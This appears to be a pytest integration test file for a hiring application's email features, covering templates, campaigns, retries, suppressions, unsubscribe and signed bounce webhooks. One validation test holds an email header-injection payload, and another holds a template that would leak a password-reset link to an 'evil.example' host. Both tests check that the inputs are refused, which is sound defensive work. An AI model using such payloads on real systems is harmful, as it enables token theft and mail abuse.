"""Templates, single mails, campaigns: what arrives, what does not, and what becomes of it."""

import base64
import hashlib
import hmac
import itertools
import re
import time
import uuid

import httpx
import pytest

from house import House, until
from smtp_sink import SmtpSink

numbers = itertools.count(1)
SECRET = "a-secret-that-the-mail-server-knows"


@pytest.fixture(scope="module")
def sink():
    sink = SmtpSink()
    yield sink
    sink.stop()


@pytest.fixture(scope="module")
def house(tmp_path_factory, sink):
    house = House("mail", tmp_path_factory.mktemp("mail"), **sink.settings, HIREWIRE_BOUNCE_SECRET=SECRET)
    try:
        yield house.open()
    finally:
        house.stop()


@pytest.fixture(scope="module")
def admin(house):
    return house.client("admin")


def address():
    return f"person{next(numbers)}.{uuid.uuid4().hex[:6]}@example.org"


def define(admin, **fields):
    answer = admin.post("/api/v1/admin/email-templates", json={"name": f"T {uuid.uuid4().hex[:8]}", "subject": "Hi {{name}}", "body": "On {{day}}", **fields})
    assert answer.status_code == 201, answer.text
    return answer.json()


def send(admin, **body):
    answer = admin.post("/api/v1/email/send", json=body)
    assert answer.status_code == 202, answer.text
    return answer.json()["email_id"]


def mail(admin, id_, *states):
    return until(f"the mail is {' or '.join(states)}", lambda: (found := admin.get(f"/api/v1/emails/{id_}").json())["state"] in states and found)


def campaign(admin, **body):
    answer = admin.post("/api/v1/candidates/bulk/send-email", json=body)
    assert answer.status_code == 202, answer.text
    return answer.json()


def ended(admin, id_):
    def look():
        found = admin.get(f"/api/v1/campaigns/{id_}").json()
        return found["state"] == "completed" and found["queued"] + found["sending"] == 0 and found
    return until("the campaign is over", look)


def test_a_template_is_defined_found_by_id_and_slug_changed_and_deleted(house, admin):
    made = define(admin, name="Round 1 Results")
    assert (made["slug"], made["variables"]) == ("round_1_results", ["day", "name"])
    for word in (made["id"], made["slug"]):
        assert admin.get(f"/api/v1/admin/email-templates/{word}").json()["id"] == made["id"]
    changed = admin.put("/api/v1/admin/email-templates/round_1_results", json={"html": "<p>{{place}}</p>"}).json()
    assert (changed["body"], changed["variables"]) == ("<p>{{place}}</p>", ["name", "place"])
    assert admin.post("/api/v1/messaging/templates", json={"name": "Round 1 results", "subject": "s", "content": "c"}).status_code == 409
    assert made["id"] in [one["id"] for one in admin.get("/api/v1/messaging/templates").json()]
    assert admin.delete(f"/api/v1/messaging/templates/{made['slug']}").json() == {"success": True}
    assert admin.get(f"/api/v1/admin/email-templates/{made['id']}").status_code == 404
    assert admin.put("/api/v1/admin/email-templates/round_1_results", json={"body": "x"}).status_code == 404


def test_a_mail_is_made_of_its_template_and_arrives(admin, sink):
    template, to = define(admin, body="<p>{{candidate_name}}, on {{day}}</p>"), address()
    person = admin.post("/api/v1/candidates", json={"email": to, "first_name": "Ada", "last_name": "Lovelace"}).json()
    id_ = send(admin, recipient_email=to, template_id=template["slug"], variables={"day": "Monday"})
    told = mail(admin, id_, "sent")
    assert (told["candidate_id"], told["recipient"], told["template_id"]) == (person["id"], to, template["id"])
    assert [one["code"] for one in told["tries"]] == [250]
    [got] = sink.to(to)
    assert (got["subject"], got["message-id"], got["to"]) == ("Hi Ada", f"<{id_}@hire.example>", f"Ada Lovelace <{to}>")
    assert got.get_body(("plain",)).get_content().strip() == "Ada Lovelace, on Monday"
    assert "<p>Ada Lovelace, on Monday</p>" in got.get_body(("html",)).get_content()


def test_the_documents_own_example_is_taken(admin, sink):
    body = {"recipient_email": address(), "subject": "Interview Scheduled", "body": "Your interview is scheduled for Dec 1",
            "template_id": "interview_scheduled", "variables": {"candidate_name": "Alice", "interview_date": "Dec 1, 2025"}}
    answer = admin.post("/api/v1/email/send", json=body)
    assert answer.status_code == 202 and answer.json().keys() == {"message", "email_id"}
    assert answer.json()["message"] == "Email queued for sending"
    mail(admin, answer.json()["email_id"], "sent")
    del body["body"]
    assert admin.post("/api/v1/email/send", json=body).status_code == 422
    missing = admin.post("/api/v1/email/send", json={"recipient_email": address(), "subject": "s", "body": "{{day}}"})
    assert missing.status_code == 422 and "variables.day" in missing.text


def test_whom_an_import_brought_is_invited_once_where_that_is_asked_for(house, admin, sink):
    newcomer, has_account, held_back, quiet, quiet_file, of_file = (address() for _ in range(6))
    account = {"email": has_account, "password": "password123", "first_name": "Ada", "last_name": "King"}
    assert httpx.post(house.url() + "/api/v1/auth/register", json=account).status_code == 201
    assert admin.post("/api/v1/suppressions", json={"address": held_back}).status_code == 201

    def bring(*people, **more):
        rows = [{"email": one, "first_name": "Ada", "last_name": "King"} for one in people]
        answer = admin.post("/api/v1/candidates/bulk/import", json={"candidates": rows, **more})
        assert (answer.status_code, answer.json().get("created")) == (202, len(people)), answer.text

    def bring_file(person, **more):
        file = {"file": ("people.csv", f"email,first_name,last_name\n{person},Ada,King\n", "text/csv")}
        assert admin.post("/api/v1/candidates/bulk/import/file", files=file, data=more).status_code == 202

    bring(quiet)
    bring_file(quiet_file, send_invitations="false")
    bring(newcomer, has_account, held_back, send_invitations=True)
    invitations = "select id from campaign where slug = 'candidate_invitation'"
    [[id_]] = until("a campaign is started", lambda: house.sql(invitations))
    told = ended(admin, id_)
    assert (told["total"], told["sent"], told["suppressed"]) == (2, 1, 1)
    [got] = sink.to(newcomer)
    said = got.get_body(("plain",)).get_content()
    assert got["subject"] == "See your profile" and newcomer in said and "/register" in said
    assert "unsubscribe" in got["list-unsubscribe"]
    house.run("react", "invite_imported", "--since", "2020-01-01T00:00:00Z")
    until("nothing waits", lambda: house.number("select count(*) from todo where kind = 'command' and due_at <= now()") == 0)
    assert house.sql(invitations) == [[id_]]
    assert len(sink.to(newcomer)) == 1
    bring_file(of_file)
    until("a file's person is invited unasked", lambda: sink.to(of_file))
    assert not [one for other in (has_account, held_back, quiet, quiet_file) for one in sink.to(other) if "See your profile" in one["subject"]]


def test_an_import_invites_for_nobody_who_may_not_send_such_mails(house, admin, sink):
    def bring(by, **more):
        to = address()
        return to, by.post("/api/v1/candidates/bulk/import", json={"candidates": [{"email": to, "first_name": "Ada", "last_name": "King"}], **more})

    def bring_file(by, **more):
        to = address()
        file = {"file": ("people.csv", f"email,first_name,last_name\n{to},Ada,King\n", "text/csv")}
        return to, by.post("/api/v1/candidates/bulk/import/file", files=file, data=more)

    assert bring(house.client("interviewer"), send_invitations=True)[1].status_code == 403
    house.sql("update user_account set is_verified = false where email = 'hr@company.com'")
    try:
        hr = house.client("hr")
        for _, answer in (bring(hr, send_invitations=True), bring_file(hr, send_invitations="true")):
            assert answer.status_code == 403 and "Confirm your own e-mail address" in answer.text, answer.text
        quiet, answer = bring_file(hr)
        assert answer.status_code == 202, answer.text
    finally:
        house.sql("update user_account set is_verified = true where email = 'hr@company.com'")
    job = answer.json()["job_id"]
    until("it is imported", lambda: house.client("hr").get(f"/api/v1/candidates/import-jobs/{job}").json()["status"] == "completed")
    invited, answer = bring_file(admin)
    until("a later one is invited", lambda: sink.to(invited))
    assert sink.to(quiet) == []


def test_a_temporary_refusal_is_tried_again_with_the_same_message_id(admin, sink):
    to = address()
    sink.answers[to] = ["450 4.2.0 greylisted"]
    id_ = send(admin, recipient_email=to, subject="s", body="b")
    told = mail(admin, id_, "sent")
    assert [one["code"] for one in told["tries"]] == [450, 250]
    assert "greylisted" in told["tries"][0]["error"]
    assert [one["message-id"] for one in sink.to(to)] == [f"<{id_}@hire.example>"]


def test_a_permanent_refusal_is_final_and_suppresses_the_address(admin, sink):
    to = address()
    sink.answers[to] = ["550 5.1.1 no such user"]
    id_ = send(admin, recipient_email=to, subject="s", body="b")
    told = mail(admin, id_, "failed")
    assert "no such user" in told["error"] and to not in told["error"]
    [listed] = admin.get("/api/v1/suppressions", params={"address": to}).json()["items"]
    assert (listed["scope"], listed["reason"]) == ("all", "rejected")
    mail(admin, send(admin, recipient_email=to.upper(), subject="s", body="b"), "suppressed")
    assert sink.to(to) == []
    assert admin.delete(f"/api/v1/suppressions/{listed['id']}").json() == {"success": True}
    mail(admin, send(admin, recipient_email=to, subject="s", body="b"), "sent")


def test_a_mail_of_which_nobody_knows_the_end_waits_for_a_person(admin, sink):
    to = address()
    sink.answers[to] = ["drop"]
    id_ = send(admin, recipient_email=to, subject="s", body="b")
    mail(admin, id_, "unsure")
    assert id_ in [one["id"] for one in admin.get("/api/v1/emails", params={"state": "unsure"}).json()["items"]]
    again = admin.post(f"/api/v1/emails/{id_}/retry")
    assert again.status_code == 200, again.text
    mail(admin, id_, "sent")
    assert [one["message-id"] for one in sink.to(to)] == [f"<{id_}@hire.example>"] * 2
    assert admin.post(f"/api/v1/emails/{id_}/retry").status_code == 409


def test_a_campaign_reaches_each_once_and_one_bad_address_stops_nobody(admin, sink):
    people = [admin.post("/api/v1/candidates", json={"email": address(), "first_name": f"P{n}", "last_name": "B"}).json() for n in range(4)]
    extra, bad = address(), address()
    sink.answers[bad] = ["550 5.1.1 no"]
    body = {"candidate_ids": [one["id"] for one in people] + [str(uuid.uuid4())], "recipients": [extra, bad, extra.upper(), people[0]["email"]],
            "subject": "Round 1", "body": "Dear {{first_name}}, {{unsubscribe}}"}
    told = campaign(admin, **body)
    assert told.keys() == {"job_id", "status", "queued_count", "estimated_completion", "message"}
    assert (told["status"], told["queued_count"], told["message"]) == ("202 ACCEPTED", 6, "Queued 6 emails for sending")
    done = ended(admin, told["job_id"])
    assert (done["total"], done["sent"], done["failed"]) == (7, 5, 2)
    for one in people:
        [got] = sink.to(one["email"])
        assert f"Dear {one['first_name']}" in got.get_body(("plain",)).get_content()
        assert got["list-unsubscribe-post"] == "List-Unsubscribe=One-Click"
    assert len(sink.to(extra)) == 1 and sink.to(bad) == []
    nobody = admin.post("/api/v1/messaging/bulk-message", json={"candidate_ids": [str(uuid.uuid4())], "subject": "s", "body": "b"})
    assert nobody.status_code == 422
    assert admin.post("/api/v1/messaging/bulk-message", json={"recipients": [address()], "subject": "s", "body": "b"}).status_code == 200


def test_a_campaign_does_not_tell_whose_an_address_is(house, admin, sink):
    hr, told, elsewhere = house.client("hr"), [], {"company_id": str(uuid.uuid4())}
    person = house.client("superadmin").post("/api/v1/candidates", json={"email": address(), "first_name": "Ada", "last_name": "King", **elsewhere}).json()
    row = f"email,first_name,last_name\n{person['email']},A,B\n"   # from now on she is known to the company, too
    assert hr.post("/api/v1/candidates/bulk/import/file", files={"file": ("a.csv", row, "text/csv")}, data={"send_invitations": "false"}).status_code == 202
    until("the company knows her", lambda: hr.get(f"/api/v1/candidates/{person['id']}").status_code == 200)
    assert hr.get(f"/api/v1/candidates/{person['id']}").json()["email"] != person["email"], "she is masked"
    for guess in (person["email"], address()):
        queued = campaign(hr, candidate_ids=[person["id"]], recipients=[guess], subject="s", body="b")
        done = ended(hr, queued["job_id"])
        listed = hr.get("/api/v1/emails", params={"campaign_id": queued["job_id"]}).json()["items"]
        told.append((queued["queued_count"], done["total"], done["sent"], done["suppressed"], sorted(str(one["candidate_id"]) for one in listed)))
    assert told[0] == told[1] == (2, 2, 2, 0, sorted([person["id"], "None"]))


@pytest.mark.parametrize("fault, field", [
    ({"recipient_email": "a@example.org,b@example.org"}, "recipient_email"), ({"recipient_email": "a;b@example.org"}, "recipient_email"),
    ({"recipient_email": "(x)a@example.org"}, "recipient_email"), ({"subject": "a\r\nBcc: x@example.org"}, "subject"), ({"subject": "é" * 300}, "subject")])
def test_what_can_never_go_is_refused_at_once(admin, fault, field):
    body = {"recipient_email": address(), "subject": "s", "body": "b"}
    answer = admin.post("/api/v1/email/send", json={**body, **fault})
    assert answer.status_code == 422 and field in answer.text, answer.text
    body = {**body, **fault}
    many = admin.post("/api/v1/candidates/bulk/send-email", json={"recipients": [body.pop("recipient_email")], **body})
    assert many.status_code == 422 and field.replace("recipient_email", "recipients") in many.text, many.text


def test_a_template_that_would_give_a_token_away_is_refused(admin):
    body = {"name": "R", "slug": "reset_password", "subject": "s"}
    stolen = admin.post("/api/v1/admin/email-templates", json={**body, "body": '<img src="https://evil.example/?t={{link}}">'})
    assert stolen.status_code == 422 and "body" in stolen.text and "href" in stolen.text, stolen.text


def test_one_click_takes_an_address_off_campaigns_and_nothing_else(house, admin, sink):
    to = address()
    ended(admin, campaign(admin, recipients=[to], subject="s", body="b")["job_id"])
    [got] = sink.to(to)
    path = re.search(r"https://hire.example(/\S+)>", got["list-unsubscribe"])[1]
    page = httpx.get(house.url() + path)
    assert page.status_code == 200 and 'method="post"' in page.text
    assert admin.get("/api/v1/suppressions", params={"address": to}).json()["items"] == []
    for _ in range(2):
        answer = httpx.post(house.url() + path, data={"List-Unsubscribe": "One-Click"})
        assert answer.status_code == 200, answer.text
    assert httpx.post(house.url() + path[:-2] + "xx", data={"List-Unsubscribe": "One-Click"}).status_code == 404
    done = ended(admin, campaign(admin, recipients=[to, address()], subject="s", body="b")["job_id"])
    assert (done["sent"], done["suppressed"]) == (1, 1)
    mail(admin, send(admin, recipient_email=to, subject="s", body="b"), "sent")


def report(house, body, secret=SECRET, age=0):
    id_, at = uuid.uuid4().hex, str(int(time.time()) - age)
    text = httpx.Request("POST", "http://x", json=body).read()
    signature = base64.b64encode(hmac.new(secret.encode(), f"{id_}.{at}.".encode() + text, hashlib.sha256).digest()).decode()
    headers = {"webhook-id": id_, "webhook-timestamp": at, "webhook-signature": f"v1,{signature}", "Content-Type": "application/json"}
    return httpx.post(house.url() + "/api/v1/bounces", content=text, headers=headers)


def test_a_bounce_is_believed_where_it_is_signed(house, admin):
    to = address()
    id_ = send(admin, recipient_email=to, subject="s", body="b")
    mail(admin, id_, "sent")
    body = {"message_id": f"<{id_}@hire.example>", "kind": "hard", "diagnostic": "550 gone"}
    assert report(house, body, secret="another-one-which-is-not-ours").status_code == 401
    assert report(house, body, age=3600).status_code == 401
    assert report(house, {**body, "message_id": f"<{uuid.uuid4()}@hire.example>"}).status_code == 404
    assert report(house, {"kind": "hard"}).status_code == 422
    for _ in range(2):
        assert report(house, body).json() == {"success": True}
    assert mail(admin, id_, "bounced")["error"] == "550 gone"
    assert admin.get("/api/v1/suppressions", params={"address": to}).json()["items"][0]["reason"] == "bounced"


def test_a_worker_that_dies_after_sending_leaves_the_mail_unsure(house, admin, sink):
    """Its mark stands, its end does not: nothing goes out twice."""
    to = address()
    house.stop("up")
    dying = house.start("up", HIREWIRE_CRASH_AT="before_done")
    until("healthy", house.healthy, 60)
    client = house.client("admin")
    id_ = send(client, recipient_email=to, subject="s", body="b")
    until("it died", lambda: dying.poll() is not None)
    house.sql("update todo set lease_until = now() where kind = 'mail.send'")
    house.start("up")
    until("healthy", house.healthy, 60)
    mail(house.client("admin"), id_, "unsure")
    assert len(sink.to(to)) == 1


def test_a_mail_that_is_asked_for_while_its_worker_is_stopped_goes_out_once_it_starts(tmp_path, sink):
    house = House("late", tmp_path, **sink.settings)
    try:
        house.open(("api",), ("worker", "hiring", "identity", "office", "reactions"), ("worker", "mail"))
        admin, to = house.client("admin"), address()
        for _ in range(2):
            house.stop("worker-mail")
            before = len(sink.to(to))
            id_ = send(admin, recipient_email=to, subject="s", body="b")
            until("its todo waits", lambda: house.number(f"select count(*) from todo where id = '{id_}' and attempts = 0") == 1)
            assert (mail(admin, id_, "queued")["attempts"], len(sink.to(to))) == (0, before)
            house.start("worker", "mail")
            mail(admin, id_, "sent")
            assert len(sink.to(to)) == before + 1
    finally:
        house.stop()


def test_without_a_mail_server_mails_lie_in_the_outbox(tmp_path):
    house = House("outbox", tmp_path, HIREWIRE_OUTBOX=tmp_path / "mails")
    try:
        admin = house.open().client("admin")
        to = address()
        id_ = send(admin, recipient_email=to, subject="Hello", body="b")
        mail(admin, id_, "sent")
        [listed] = admin.get("/api/v1/outbox").json()["mails"]
        assert (listed["email_id"], listed["recipient"], listed["subject"]) == (id_, to, "Hello")
        assert "Subject: Hello" in admin.get(f"/api/v1/outbox/{id_}").text
        assert admin.get(f"/api/v1/outbox/{uuid.uuid4()}").status_code == 404
        assert id_ in house.run("outbox").stdout
        assert f"To: {to}" in house.run("outbox", "show", id_).stdout
        assert house.client("hr").get("/api/v1/outbox").status_code == 403
    finally:
        house.stop()
